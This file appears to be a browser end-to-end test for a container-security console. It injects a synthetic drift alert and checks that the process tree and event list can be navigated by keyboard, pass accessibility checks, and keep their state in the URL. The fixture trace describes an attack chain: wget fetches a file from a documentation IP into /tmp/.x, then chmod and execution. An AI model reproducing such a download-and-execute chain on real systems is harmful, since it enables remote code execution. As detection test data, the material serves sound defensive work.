import assert from 'node:assert/strict';
import { NODE } from './sensors.mjs';

export const title = 'what a container did before an alert: its processes, its doings';

/** An alert with its trace, handed in as a sensor does. */
async function raise(page) {
  const at = (seconds) => new Date(Date.now() - seconds * 1000).toISOString();
  const process = (pid, parent, command, seconds, more = {}) => ({
    pid,
    parent,
    name: command.split(' ')[0].split('/').at(-1),
    path: command.split(' ')[0],
    command,
    user: 'root',
    started: at(seconds),
    in_container: true,
    ...more,
  });
  const deed = (seconds, pid, kind, what, count = 1) => ({
    time: at(seconds),
    pid,
    kind,
    what,
    count,
  });
  const alert = {
    rule: {
      id: 'K8S.NODE_StoryDrift',
      title: 'A program that is not in the image',
      description: 'An executable was written after the container started, then run.',
      severity: 'high',
      tactics: ['execution'],
      techniques: ['T1036.005'],
    },
    place: [
      { kind: 'cluster', identity: 'stories', name: 'stories' },
      { kind: 'namespace', identity: 'shop', name: 'shop' },
      { kind: 'pod', identity: 'web-7d9f-2', name: 'web-7d9f-2' },
      { kind: 'container', identity: 'c'.repeat(64), name: 'web' },
    ],
    image: { name: 'registry.example/shop/web:1.0' },
    program: '/tmp/.x',
    summary: '/tmp/.x was executed: it was killed',
    evidence: { 'drift.path': '/tmp/.x', 'drift.outcome': 'killed' },
    user: 'root',
    uid: 0,
    trace: {
      processes: [
        process(100, 0, '/usr/bin/containerd-shim-runc-v2', 9000, { in_container: false }),
        process(110, 100, '/usr/sbin/nginx', 8990),
        process(120, 110, 'sh -c wget', 90),
        process(121, 120, 'wget http://203.0.113.9/a', 89, { ended: at(85) }),
        process(130, 120, 'chmod +x /tmp/.x', 80, { ended: at(80) }),
        process(140, 120, '/tmp/.x', 1, { is_subject: true }),
      ],
      events: [
        deed(110, 110, 'read', '/srv/index.html', 200),
        deed(89, 121, 'execute', '/usr/bin/wget'),
        deed(88, 121, 'connect', '203.0.113.9:80'),
        deed(87, 121, 'write', '/tmp/.x', 12),
        deed(80, 130, 'permission', '/tmp/.x'),
        deed(1, 140, 'execute', '/tmp/.x'),
        deed(0, 140, 'alert', 'A program that is not in the image'),
      ],
      omitted: 3,
    },
  };
  const body = {
    boot: '6f0c1c1e-0000-4000-8000-5709e0de0001',
    run: `story-${Date.now()}`,
    cluster: 'stories',
    items: [{ sequence: 1, time: at(0), what: { alert } }],
  };
  const told = await page.evaluate(
    async ([path, text]) => {
      const answer = await fetch(path, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: text,
      });
      const said = await answer.json();
      return answer.ok && said.refused.length === 0 ? '' : JSON.stringify(said);
    },
    [`/api/v1/sensors/${NODE}/batches?environment=local`, JSON.stringify(body)],
  );
  assert.equal(told, '');
}

export default async function story({ page, url, isMock, axe }) {
  if (isMock) await page.goto(`${url}/?mock=normal`);
  else {
    await page.goto(`${url}/settings/system`);
    await raise(page);
  }
  const rule = isMock ? 'drifted-executable' : 'K8S.NODE_StoryDrift';
  await page.goto(`${url}/alerts?q=rule:${rule}`);
  await page.getByRole('table', { name: 'Alerts' }).waitFor();
  await page.keyboard.press('j');
  const pane = page.getByRole('complementary');
  await pane.getByRole('tree', { name: 'Processes' }).waitFor();
  assert.deepEqual(await axe(), []);
  await page.keyboard.press('Enter');
  await page.waitForURL(/\/findings\//);
  const tree = page.getByRole('tree', { name: 'Processes' });
  await tree.waitFor();
  assert.deepEqual(await axe(), []);

  // The tree is walked and narrowed by keys alone.
  const events = page.getByRole('list', { name: 'What happened, oldest first' });
  const before = await events.getByRole('listitem').count();
  await tree.getByRole('treeitem', { name: /the alert is about this/ }).focus();
  await page.keyboard.press('ArrowUp');
  await page.keyboard.press('ArrowUp');
  await page.keyboard.press('Enter');
  await page.waitForURL(/process=/);
  assert.match(await page.locator(':focus').textContent(), /^wget/);
  const after = await events.getByRole('listitem').count();
  assert.ok(after > 0 && after < before, `${after} of ${before}`);

  // The address is the state.
  await page.reload();
  await tree.waitFor();
  assert.equal(await events.getByRole('listitem').count(), after);
  await page.getByRole('button', { name: /^Only wget/ }).click();
  await page.waitForFunction(() => !location.search.includes('process='));
  await page
    .getByText(/^(Blocked|Killed|Would have been blocked)$/)
    .first()
    .waitFor();
}
